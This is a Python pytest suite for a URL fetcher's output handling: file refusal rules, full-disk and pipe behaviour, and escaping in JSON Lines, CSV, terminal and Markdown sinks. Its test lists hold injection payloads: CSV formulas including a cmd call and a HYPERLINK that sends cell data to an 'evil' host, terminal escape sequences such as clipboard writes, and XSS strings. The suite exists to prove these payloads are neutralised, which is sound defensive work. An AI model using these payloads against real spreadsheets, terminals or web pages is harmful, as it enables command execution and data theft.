"""`-o FILE` and standard output: what is refused, what a full disk leaves, what never gets out raw."""

from __future__ import annotations

import csv
import errno
import fcntl
import io
import json
import os
import re
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from itertools import product
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fetcher.errors import LocalFault, UsageError
from fetcher.ledger import entries
from fetcher.model import COLUMNS, Result
from fetcher.outputs import Whole, open_files, open_outputs
from fetcher.records import read
from fetcher.sinks import jsonl, lines, markdown
from fetcher.sinks.csv import guarded, unguarded

OK = Result(row=1, url="http://www.foxnews.com/", status=200, size=246_819, elapsed=0.3149)
FAILED = Result(
    row=2,
    url="http://some-made-up-domain.com/",
    error="dns_not_found",
    message="Name or service not known",
    elapsed=0.02,
)


def refused(*paths: object, overwrite: bool = False, inputs: tuple[str, ...] = ()) -> str:
    """The one line with which these outputs are refused."""
    with (
        pytest.raises(UsageError) as caught,
        open_outputs([str(path) for path in paths], COLUMNS, overwrite=overwrite, inputs=inputs),
    ):
        pass
    message = str(caught.value)
    assert "\n" not in message
    return message


# What is refused before the first request.


@pytest.mark.parametrize("name", ["out.txt", "out", "out.jsonl.bak", "out.xyz"])
def test_an_unknown_suffix_names_the_known_ones(name: str, tmp_path: Path) -> None:
    message = refused(tmp_path / name)
    assert all(suffix in message for suffix in (".csv", ".jsonl", ".md", ".parquet"))
    assert list(tmp_path.iterdir()) == []


def test_a_dash_is_no_file(tmp_path: Path) -> None:
    assert "--json" in refused("-")


@pytest.mark.parametrize("name", ["out.jsonl", "OUT.JSONL"])
def test_an_existing_file_is_kept(name: str, tmp_path: Path) -> None:
    path = tmp_path / name
    path.write_text("mine")
    assert "--overwrite" in refused(path)
    assert path.read_text() == "mine"


def test_overwrite_replaces_the_content_and_keeps_the_permissions(tmp_path: Path) -> None:
    path = tmp_path / "out.jsonl"
    path.write_text("old" * 1000)
    path.chmod(0o600)
    with open_outputs([str(path)], COLUMNS, overwrite=True) as (write,):
        assert path.read_bytes() == b""
        write([OK])
    assert len(path.read_text().splitlines()) == 1
    assert path.stat().st_mode & 0o777 == 0o600


def test_a_new_file_has_the_usual_permissions(tmp_path: Path) -> None:
    umask = os.umask(0o027)
    try:
        with open_outputs([str(tmp_path / "out.csv")], COLUMNS, overwrite=False):
            pass
    finally:
        os.umask(umask)
    assert (tmp_path / "out.csv").stat().st_mode & 0o777 == 0o640


def test_a_directory_is_refused(tmp_path: Path) -> None:
    (tmp_path / "out.csv").mkdir()
    assert "is a directory" in refused(tmp_path / "out.csv", overwrite=True)


def test_a_missing_directory_is_named(tmp_path: Path) -> None:
    assert f"{tmp_path / 'absent'} does not exist" in refused(tmp_path / "absent" / "out.csv")


def test_a_file_is_no_directory(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("x")
    assert "Not a directory" in refused(tmp_path / "file" / "out.csv")


def test_a_folder_that_takes_no_file_is_there_all_the_same() -> None:
    if not Path("/proc/self").exists():
        pytest.skip("no /proc")
    message = refused("/proc/foo.csv")
    assert "does not exist" not in message
    assert "No such file or directory" in message


@pytest.mark.parametrize("name", ["a\0b.csv", "x" * 300 + ".csv"])
def test_an_impossible_name_is_refused(name: str, tmp_path: Path) -> None:
    assert "cannot be written" in refused(f"{tmp_path}/{name}")


@contextmanager
def nobody() -> Iterator[None]:
    """Without the powers of root for a while."""
    if os.geteuid() != 0:
        yield
        return
    os.seteuid(65534)
    try:
        yield
    finally:
        os.seteuid(0)


def test_no_permission_is_told(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    tmp_path.chmod(0o500)
    try:
        with nobody(), pytest.raises(UsageError, match="Permission denied"):
            open_files([str(path)], overwrite=False)
    finally:
        tmp_path.chmod(0o700)
    assert not path.exists()


def test_the_same_file_twice(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    assert "twice" in refused(path, path)
    assert "twice" in refused(path, tmp_path / "." / "out.csv")
    assert not path.exists()
    path.write_text("mine")
    os.link(path, tmp_path / "hard.csv")
    (tmp_path / "soft.csv").symlink_to(path)
    assert "twice" in refused(path, tmp_path / "hard.csv", overwrite=True)
    assert "twice" in refused(path, tmp_path / "soft.csv", overwrite=True)
    assert path.read_text() == "mine"


@pytest.mark.parametrize("overwrite", [False, True])
def test_an_input_is_no_output(overwrite: bool, tmp_path: Path) -> None:
    path = tmp_path / "urls.csv"
    path.write_text("url\nhttp://a/\n")
    link = tmp_path / "link.csv"
    link.symlink_to(path)
    for output, source in product((path, link), (path, link)):
        given = ("http://a/", "absent.txt", str(source))
        assert "is an input" in refused(output, overwrite=overwrite, inputs=given)
    assert path.read_text() == "url\nhttp://a/\n"


def test_stdin_is_an_input_too(tmp_path: Path) -> None:
    path = tmp_path / "urls.csv"
    path.write_text("url\n")
    code = (
        "import sys; from fetcher.outputs import open_files\n"
        "open_files(sys.argv[1:], overwrite=True, inputs=['-'])"
    )
    with path.open() as stdin:
        run = subprocess.run([sys.executable, "-c", code, path], stdin=stdin, capture_output=True, text=True)
    assert "is an input" in run.stderr
    assert path.read_text() == "url\n"


def test_all_or_none(tmp_path: Path) -> None:
    kept = tmp_path / "kept.csv"
    kept.write_text("mine")
    refused(tmp_path / "new.jsonl", kept, tmp_path / "absent" / "out.csv", overwrite=True)
    assert list(tmp_path.iterdir()) == [kept]
    assert kept.read_text() == "mine"


def test_a_file_that_another_run_writes_is_refused_and_left_alone(tmp_path: Path) -> None:
    path, new = tmp_path / "out.jsonl", tmp_path / "new.csv"
    with open_outputs([str(path)], COLUMNS, overwrite=False) as (write,):
        write([OK])
        message = refused(new, path, overwrite=True)
        assert message.startswith(f"{path} is being written by another run: wait")
        write([FAILED])
    assert len(path.read_text().splitlines()) == 2
    assert not new.exists()
    with open_outputs([str(path)], COLUMNS, overwrite=True, totals=str(new)):  # it has ended: free again
        assert "another run" in refused(new, overwrite=True)


def test_two_runs_may_share_what_is_no_file() -> None:
    with (
        open_outputs(["/dev/null"], COLUMNS, overwrite=False) as (first,),
        open_outputs(["/dev/null"], COLUMNS, overwrite=False) as (second,),
    ):
        first([OK])
        second([OK])


@pytest.mark.parametrize("number", [errno.ENOLCK, errno.EOPNOTSUPP, errno.EINVAL])
def test_a_file_system_without_locks_is_written_to(
    number: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def flock(*_: int) -> None:
        raise OSError(number, os.strerror(number))

    monkeypatch.setattr(fcntl, "flock", flock)
    with open_outputs([str(tmp_path / "out.jsonl")], COLUMNS, overwrite=False) as (write,):
        write([OK])
    assert (tmp_path / "out.jsonl").read_bytes().count(b"\n") == 1


def test_what_is_no_file_is_written_to_as_it_is() -> None:
    with open_outputs(["/dev/null", "/dev/null"], COLUMNS, overwrite=False) as writes:
        for write in writes:
            write([OK])


@pytest.mark.parametrize("suffix", [".jsonl", ".csv", ".parquet", ""])
def test_a_fifo(suffix: str, tmp_path: Path) -> None:
    path = tmp_path / f"fifo{suffix}"
    os.mkfifo(path)
    heard: list[bytes] = []
    reader = threading.Thread(target=lambda: heard.append(path.read_bytes()))
    reader.start()
    with open_outputs([str(path)], COLUMNS, overwrite=False) as (write,):
        write([OK] * 1000)
    reader.join(10)
    if suffix == ".parquet":
        assert pytest.importorskip("pyarrow.parquet").read_table(io.BytesIO(heard[0])).num_rows == 1000
    else:
        assert heard[0].count(b"http://www.foxnews.com/") == 1000


def test_several_outputs_at_once(tmp_path: Path) -> None:
    paths = [str(tmp_path / f"out{suffix}") for suffix in (".jsonl", ".csv", ".md", ".parquet")]
    before = len(list(Path("/dev/fd").iterdir()))
    with open_outputs(paths, COLUMNS, overwrite=False) as writes:
        for write in writes:
            write([OK, FAILED])
    assert all(Path(path).stat().st_size for path in paths)
    assert len(list(Path("/dev/fd").iterdir())) == before


def test_choosing_a_sink_does_not_import_the_others() -> None:
    code = (
        "import sys; from fetcher.outputs import open_outputs\n"
        "with open_outputs(['/dev/null'], ('row',), overwrite=False): print('pyarrow' in sys.modules)"
    )
    run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert run.stdout == "False\n"


# What a disk or a pipe does on the way.

LIMITED = """if True:
    import resource, signal, sys
    from fetcher.errors import LocalFault
    from fetcher.model import COLUMNS, Result
    from fetcher.outputs import open_outputs
    path, limit = sys.argv[1], int(sys.argv[2])
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    batches = [[Result(row=2 * n + k, url="http://a/") for k in (1, 2)] for n in range(40)]
    written = 0
    try:
        with open_outputs([path], COLUMNS, overwrite=False) as (write,):
            resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
            for batch in batches:
                write(batch)
                written += len(batch)
    except LocalFault as fault:
        print(written)
        print(fault)
"""


def test_a_full_disk_leaves_whole_batches(tmp_path: Path) -> None:
    for limit in (10, 700, 5000, 5001, 9999):
        path = tmp_path / f"out{limit}.jsonl"
        words = [sys.executable, "-c", LIMITED, str(path), str(limit)]
        run = subprocess.run(words, capture_output=True, text=True, timeout=30)
        assert run.stderr == ""
        written, message = run.stdout.splitlines()
        rows = [json.loads(line)["row"] for line in path.read_text().splitlines()]
        assert rows == list(range(1, int(written) + 1))
        assert path.read_bytes()[-1:] in {b"", b"\n"}
        assert f"{path}: File too large after {path.stat().st_size:,} bytes; what was written is" in message
        assert "again with --overwrite" in message


def test_a_full_disk_under_csv_leaves_whole_rows(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    words = [sys.executable, "-c", LIMITED, str(path), "2000"]
    run = subprocess.run(words, capture_output=True, text=True, timeout=30)
    with path.open(newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert len(rows) == int(run.stdout.split()[0]) > 0
    assert all(None not in row.values() for row in rows)


@pytest.mark.parametrize("rows", [1, 10_000])
@pytest.mark.parametrize("suffix", [".csv", ".md", ".parquet", ".jsonl"])
def test_a_full_device_is_a_local_fault(suffix: str, rows: int, tmp_path: Path) -> None:
    if not Path("/dev/full").exists():
        pytest.skip("no /dev/full")
    link = tmp_path / f"out{suffix}"
    link.symlink_to("/dev/full")
    with (
        pytest.raises(LocalFault, match=r"No space left on device.*--overwrite") as caught,
        open_outputs([str(link)], COLUMNS, overwrite=False) as (write,),
    ):
        write([OK] * rows)
    assert ("cannot be read" in str(caught.value)) == (suffix == ".parquet")


def test_one_full_disk_leaves_the_other_outputs_whole(tmp_path: Path) -> None:
    if not Path("/dev/full").exists():
        pytest.skip("no /dev/full")
    parquet = pytest.importorskip("pyarrow.parquet")
    table = tmp_path / "out.parquet"
    with (
        pytest.raises(LocalFault),
        open_outputs([str(table), "/dev/full"], COLUMNS, overwrite=False) as (first, second),
    ):
        first([OK])
        second([OK])
    assert parquet.read_table(table).num_rows == 1


STUBBORN = """if True:
    import resource, signal
    from fetcher.errors import LocalFault
    from fetcher.outputs import Whole
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    hard = resource.getrlimit(resource.RLIMIT_FSIZE)[1]
    out = Whole(1, "standard output")
    for soft in (20, hard):
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
        try:
            out.write(b"x" * 30)
        except LocalFault:
            pass
"""


def test_after_a_fault_nothing_more_is_written(tmp_path: Path) -> None:
    with (tmp_path / "out").open("wb") as stdout:
        subprocess.run([sys.executable, "-c", STUBBORN], stdout=stdout, check=True, timeout=30)
    assert (tmp_path / "out").read_bytes() == b""


def test_what_stands_behind_is_never_cut(tmp_path: Path) -> None:
    path = tmp_path / "out"
    path.write_bytes(b"y" * 100)
    with path.open("r+b") as stdout:
        subprocess.run([sys.executable, "-c", STUBBORN], stdout=stdout, check=True, timeout=30)
    assert path.read_bytes()[20:] == b"y" * 80


def test_a_broken_pipe_stays_a_broken_pipe() -> None:
    read, write = os.pipe()
    os.close(read)
    with Whole(write, "standard output", owned=True) as out, pytest.raises(BrokenPipeError):
        out.write(b"x")


def test_what_was_appended_to_is_never_cut(tmp_path: Path) -> None:
    path = tmp_path / "log"
    path.write_bytes(b"before\n")
    code = """if True:
        import resource, signal
        from fetcher.errors import LocalFault
        from fetcher.outputs import Whole
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (20, 20))
        out = Whole(1, "standard output")
        try:
            out.write(b"one\\n")
            out.write(b"x" * 100)
        except LocalFault:
            pass
    """
    with path.open("ab") as stdout:
        subprocess.run([sys.executable, "-c", code], stdout=stdout, check=True, timeout=30)
    assert path.read_bytes() == b"before\none\n"


def test_an_output_that_nobody_reads_is_broken_and_silent(tmp_path: Path) -> None:
    fifo = tmp_path / "fifo.jsonl"
    os.mkfifo(fifo)
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
    other = tmp_path / "other.jsonl"
    with open_outputs([str(fifo), str(other)], COLUMNS, overwrite=False) as (first, second):
        assert (first.file.waits, second.file.waits) == (True, False)
        os.close(reader)
        for write in (first, second, first):
            write([OK])
        assert (first.broken, first.lost, second.broken) == (True, 0, False)
    assert len(other.read_text().splitlines()) == 1


@pytest.mark.parametrize("suffix", [".jsonl", ".csv", ".parquet"])
def test_a_write_that_waits_can_be_given_up(suffix: str, tmp_path: Path) -> None:
    pytest.importorskip("pyarrow")
    fifo = tmp_path / f"fifo{suffix}"
    os.mkfifo(fifo)
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
    waits: list[float] = []

    def enough(waited: float) -> bool:
        waits.append(waited)
        return waited > 0.25

    odd = [
        Result(row=n, url=os.urandom(500).hex()) for n in range(10_000)
    ]  # random, or Parquet makes it small
    with open_outputs([str(fifo)], COLUMNS, overwrite=False) as (output,):
        output.file.gives_up = enough
        for _ in range(2):
            output(odd)
        assert (output.broken, output.lost) == (True, 20_000)
    assert waits[-1] < 2
    held = os.read(reader, 1 << 20)
    os.close(reader)
    assert len(held) > 4096
    if suffix != ".parquet":
        assert held.endswith(b"\n")  # whole lines, up to where the reader slept


def test_writers_that_share_a_pipe_tear_no_line() -> None:
    read, write = os.pipe()
    batch = b"".join(b"%d" % n * 300 + b"\n" for n in range(10)) * 20

    def print_all(own: int) -> None:
        with Whole(own, "standard output", owned=True) as out:
            for _ in range(30):
                out.write(batch)

    threads = [threading.Thread(target=print_all, args=(os.dup(write),)) for _ in range(3)]
    for thread in threads:
        thread.start()
    os.close(write)
    with os.fdopen(read, "rb") as stream:
        lines_read = stream.read().splitlines()
    for thread in threads:
        thread.join(10)
    assert len(lines_read) == 3 * 30 * 200
    assert {(len(line), len(set(line))) for line in lines_read} == {(300, 1)}


def test_a_pipe_that_does_not_block_gets_everything() -> None:
    read, write = os.pipe()
    os.set_blocking(write, False)
    heard = bytearray()

    def listen() -> None:
        time.sleep(0.05)
        while piece := os.read(read, 65536):
            heard.extend(piece)

    listener = threading.Thread(target=listen)
    listener.start()
    with Whole(write, "standard output", owned=True) as out:
        assert out.write(b"x" * 1_000_000) == 1_000_000
    listener.join(10)
    os.close(read)
    assert len(heard) == 1_000_000


def test_what_is_not_owned_stays_open(tmp_path: Path) -> None:
    read, write = os.pipe()
    Whole(write, "standard output").close()
    out = Whole(write, "standard output")
    del out
    os.write(write, b"x")
    os.close(write)
    os.close(read)


# JSON Lines: the fast way and json.dumps agree.

TEXT = st.text(st.characters(), max_size=12) | st.sampled_from(
    ["\ud800", "\x00\x1f\x7f", '"\\/', "\u2028\u2029", "é"]
)
SECONDS = st.none() | st.floats(0, 1e9).filter(lambda value: value == 0 or value > 1e-300)
MAYBE = st.none() | TEXT
COUNT = st.none() | st.integers(0, 10**20)
FIELDS: dict[str, st.SearchStrategy[Any]] = {
    **dict.fromkeys(("input", "url", "started", "engine"), TEXT),
    **dict.fromkeys(("final_url", "message", "content_type", "encoding"), MAYBE),
    **dict.fromkeys(("http_version", "ip", "sha256", "referrer"), MAYBE),
    **dict.fromkeys(("status", "size", "wire_size", "content_length", "depth"), COUNT),
    **dict.fromkeys(("dns", "connect", "tls", "ttfb"), SECONDS),
    "row": st.integers(0, 10**9),
    "attempts": st.integers(0, 99),
    "error": st.sampled_from([None, "reset"]),
    "elapsed": st.floats(0, 1e9),
    "redirects": st.lists(st.fixed_dictionaries({"url": TEXT, "status": st.integers(300, 399)}), max_size=2),
    "headers": st.none() | st.dictionaries(TEXT, TEXT, max_size=2),
}
MORE = ("sha256", "depth", "referrer", "headers")


@given(
    st.builds(Result, **FIELDS),
    st.sampled_from([COLUMNS, (*COLUMNS, *MORE), (*COLUMNS, "sha256"), ("url", "elapsed", "ok"), MORE]),
)
def test_jsonl_is_json_dumps(result: Result, columns: tuple[str, ...]) -> None:
    out = io.BytesIO()
    with jsonl.sink(out, columns) as write:
        write([result])
    record = result.record(columns)
    for name, value in record.items():
        if isinstance(value, float):
            assert abs(json.loads(out.getvalue())[name] - value) <= 5.1e-7 + value * 1e-15
            record[name] = json.loads(out.getvalue())[name]
            assert record[name] == round(record[name], 6)
    expected = json.dumps(record, ensure_ascii=False, separators=(",", ":")) + "\n"
    assert out.getvalue() == expected.encode("utf-8", "backslashreplace")
    out.getvalue().decode("utf-8")


JSON_ATTACKS = [
    '","ok":true,"x":"',
    "\\",
    '\\"',
    "\n{}\n",
    "\r",
    "\x00\x1b]0;x\x07",
    "\u2028\u2029",
    "\ud800",
    "</script>",
    "\ufeff",
]


@pytest.mark.parametrize("attack", JSON_ATTACKS)
def test_every_line_of_jsonl_parses(attack: str) -> None:
    out = io.BytesIO()
    with jsonl.sink(out, COLUMNS) as write:
        write([Result(url=attack, message=attack, content_type=attack, final_url=attack), FAILED])
    first, second, rest = out.getvalue().split(b"\n")
    assert rest == b""
    assert json.loads(second)["error"] == "dns_not_found"
    record = json.loads(first)
    assert record["ok"] is False
    assert [record[name] for name in ("url", "message", "content_type", "final_url")] == [attack] * 4


# CSV: nothing that a spreadsheet would run.

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tx",
    "\rx",
    " =1",
    "\u00a0=1",
    '"=1',
    "'=1",
    "'\tx",
    "''\r",
    '" =1',
    "\u3000=1",
    "\ufeff=1",
    "\u200b=1",
    "\x00=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
    "\u22121",
    "\ufe661",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil/?"&A1,"x")',
]


@pytest.mark.parametrize("attack", FORMULAS)
def test_no_cell_starts_a_formula(attack: str, tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    with open_outputs([str(path)], COLUMNS, overwrite=False) as (write,):
        write([Result(row=1, url=attack, message=attack, content_type=attack)])
    with path.open(newline="", encoding="utf-8") as stream:
        (row,) = csv.DictReader(stream)
    assert [row[name] for name in ("url", "message", "content_type")] == ["'" + attack] * 3


@pytest.mark.parametrize(
    "text", ["http://a/?x==1", "a=1", "text/html", "1-2", "", "'", "it's", "Name - x", "[]"]
)
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text


@given(st.text() | st.text("'\t\r\n =-a\u200b\""))
def test_what_is_guarded_can_be_undone(text: str) -> None:
    cell = guarded(text)
    assert unguarded(cell) == text
    assert (guarded(f"'{text}") != f"'{text}") == (cell != text)


@pytest.mark.parametrize("text", ["'\ta", "\ta", "''\ra", "'", "''", "'a", "=a", "'=a", "''=a", "it's"])
def test_text_comes_back_from_a_csv(text: str, tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    with open_outputs([str(path)], COLUMNS, overwrite=False) as (write,):
        write([Result(row=1, url=text, message=text)])
    (record,) = read(str(path))
    assert (record["url"], record["message"]) == (text, text)
    for whole in (False, True):
        with path.open("rb") as stream:
            assert [url.decode() for _, url, _, _ in entries(stream, str(path), whole=whole)] == [text]


def test_numbers_are_not_guarded(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    with open_outputs([str(path)], ("row", "elapsed"), overwrite=False) as (write,):
        write([Result(row=-5, elapsed=0.5)])
    assert path.read_bytes() == b"row,elapsed\r\n-5,0.5\r\n"


# A terminal: nothing raw.

TERMINAL_ATTACKS = [
    "\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b]52;c;ZWNobw==\x07",
    "\x1b]8;;http://evil/\x1b\\click\x1b]8;;\x1b\\",
    "\x1bP+q544e\x1b\\",
    "\x1b[2J\x1b[H",
    "\x1b[?1049h",
    "\x1b[6n",
    "\x1b",
    "\x9b31m",
    "\x9d0;title\x9c",
    "\x90x\x9c",
    "\x07\x07",
    "\x08\x08\x08ok",
    "\rok 200",
    "a\nb",
    "a\tb",
    "\x0b\x0c",
    "\x0e\x0f",
    "\x00",
    "\x7f",
    "\x85next",
    "\u202emoc.live",
    "\u202a\u202b\u202c\u202d",
    "\u2066\u2067\u2068\u2069",
    "\u200e\u200f\u061c",
    "\u2028\u2029",
    "\udc9b31m",
]
RAW = re.compile("[\0-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")


@pytest.mark.parametrize("terminal", [True, False])
@pytest.mark.parametrize("encoding", ["utf-8", "ascii", "latin-1"])
@pytest.mark.parametrize("attack", TERMINAL_ATTACKS)
def test_nothing_raw_reaches_a_terminal(attack: str, terminal: bool, encoding: str) -> None:
    out = io.BytesIO()
    with lines.sink(out, COLUMNS, terminal=terminal, encoding=encoding) as write:
        write([Result(url=f"http://a/{attack}", error="bad_header", message=attack)])
    text = out.getvalue().decode(encoding)
    assert text.endswith("\n")
    fields = text[:-1] if terminal else text[:-1].replace("\t", "", 4)
    assert not RAW.search(fields)
    assert "\\x" in fields or "\\u" in fields


def test_lines_on_a_terminal() -> None:
    ok, failed = lines.line(OK, True, False), lines.line(FAILED, True, False)
    assert re.fullmatch(r"200 +246,819 B +0\.31 s  http://www\.foxnews\.com/", ok)
    assert re.fullmatch(
        r"dns_not_found +- +0\.02 s  http://some-made-up-domain\.com/  \(Name or service not known\)", failed
    )
    assert ok.index("http") == failed.index("http")


def test_lines_in_a_pipe() -> None:
    assert lines.line(OK, False, False) == "200\t246819\t0.314900\thttp://www.foxnews.com/\t-"
    assert (
        lines.line(FAILED, False, False)
        == "dns_not_found\t-\t0.020000\thttp://some-made-up-domain.com/\tName or service not known"
    )
    assert lines.line(Result(), False, False) == "-\t-\t0.000000\t-\t-"


def test_a_long_url_is_not_cut() -> None:
    url = "http://a/" + "x" * 5000
    assert lines.line(Result(url=url, status=200), True, False).endswith("  " + url)


@pytest.mark.parametrize(
    ("status", "error", "tint"), [(200, None, 32), (404, None, 33), (200, "truncated", 31)]
)
def test_colour_only_if_asked_for(status: int, error: str | None, tint: int) -> None:
    result = Result(url="http://a/", status=status, error=error)
    plain, coloured = lines.line(result, True, False), lines.line(result, True, True)
    assert coloured.startswith(f"\x1b[{tint}m")
    assert re.sub("\x1b\\[[0-9]+m", "", coloured) == plain
    assert "\x1b" not in lines.line(result, False, True)


def test_an_encoding_that_lacks_a_character_never_fails() -> None:
    out = io.BytesIO()
    with lines.sink(out, COLUMNS, terminal=True, encoding="ascii") as write:
        write([Result(url="http://a/ü\U0001f600", status=200)])
    assert out.getvalue().endswith(b"http://a/\\xfc\\U0001f600\n")


# Markdown: one row stays one row, and nothing in it acts.

MARKDOWN_ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "![x](http://evil/x.png)",
    "a | b | c",
    "a\\|b",
    "line\nbreak\n# head",
    "`code`",
    "**bold** _x_ ~~y~~",
    "&lt;b&gt;",
    "http://a/`|<b>",
    "http://a/\\|b",
    "javascript:alert(1)",
    "<http://evil/>",
]


@pytest.mark.parametrize("attack", MARKDOWN_ATTACKS)
def test_no_cell_of_a_table_acts(attack: str) -> None:
    text = markdown.cell(attack)
    assert "\n" not in text
    assert not re.search(r"(?<!\\)(?:\\\\)*[|`*_\[\]]", text)
    assert not re.search(r"<(?!https?://[^<> ]+>$)", text)


def test_a_url_in_a_table_is_a_link() -> None:
    assert markdown.cell("http://a/b_c?d=*e*&f|g") == "<http://a/b_c?d=*e*&f\\|g>"
